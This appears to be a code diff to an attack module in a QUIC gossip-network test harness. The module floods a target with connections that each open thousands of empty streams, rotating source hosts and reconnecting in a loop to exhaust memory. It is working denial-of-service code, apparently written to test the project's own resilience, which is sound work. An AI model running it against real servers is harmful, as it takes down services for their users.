@@ -1,37 +1,50 @@
 import { GOSSIP_ALPN } from '@grapevine/net';
 import type { Attack, Field } from '../attack.js';
-import { many } from '../frame-flood.js';
-import { ATTACKER_HOST } from '../raw-peer.js';
+import { freshHost, many } from '../frame-flood.js';
 
 const CLIENTS = 24;
-/** Of each kind: with a few more the connection would be over, for bytes that nobody has read. In a packet as many as fit. */
-const STREAMS = 2_600;
+/** Of each kind: nearly as many as a connection may have. In a packet as many as fit. */
+const STREAMS = { bi: 120, uni: 4_000 };
 const PER_PACKET = 200;
+/** Bits of the ids of a client's streams (RFC 9000, section 2.1). */
+const BI = 0;
+const UNI = 2;
 
-/** Opens all the streams that it may by frames without a byte: QUIC keeps something for each, and tells nobody. */
+/** Opens all the streams that it may by frames without a byte: QUIC keeps something for each, and tells nobody. Each connection from another address. */
 export const emptyStreams: Attack = {
   name: 'empty-streams',
-  what: 'connections with 5,200 streams each, in both directions and in one, on which nothing is said',
-  // quiche's own, and a ceiling that is not reached: a frame of five bytes takes a kilobyte, and quiche tells nobody that the stream is there.
-  limits: { memoryPerStranger: 8_000_000 },
-  run: async (field) => void (await Promise.all(Array.from({ length: CLIENTS }, () => one(field)))),
+  what: 'connections with 4,120 streams each, in both directions and in one, on which nothing is said',
+  async run(field) {
+    let made = 0;
+    const again = async () => {
+      while (!field.signal.aborted) {
+        await one(field, freshHost(made++)).catch(() => {});
+        await field.pause(100);
+      }
+    };
+    await Promise.all(Array.from({ length: CLIENTS }, again));
+  },
 };
 
-async function one({ kit, target, traffic, signal, pause }: Field): Promise<void> {
-  await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host: ATTACKER_HOST });
-  traffic.strangers++;
+async function one({ kit, target, traffic, signal, pause }: Field, host: string): Promise<void> {
+  await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host });
+  traffic.strangers = Math.min(CLIENTS, traffic.strangers + 1);
   const empty = new Uint8Array();
   let counted = 0;
   const count = () => {
     traffic.sent += client.sent - counted;
     counted = client.sent;
   };
-  for (let i = 0; i < STREAMS && !signal.aborted; i += PER_PACKET) {
-    for (const kind of [0, 2]) client.send(many(PER_PACKET, (k) => kit.frames.stream(4 * (i + k) + kind, 0, empty)));
+  const isOver = () => signal.aborted || client.closeCode !== undefined;
+  const open = (first: number, kind: number, streams: number) =>
+    client.send(many(streams, (k) => kit.frames.stream(4 * (first + k) + kind, 0, empty)));
+  open(0, BI, STREAMS.bi);
+  for (let i = 0; i < STREAMS.uni && !isOver(); i += PER_PACKET) {
+    open(i, UNI, PER_PACKET);
     count();
     await pause(20);
   }
-  while (!signal.aborted && client.closeCode === undefined) {
+  while (!isOver()) {
     client.send(kit.frames.ping());
     count();
     await pause(500);
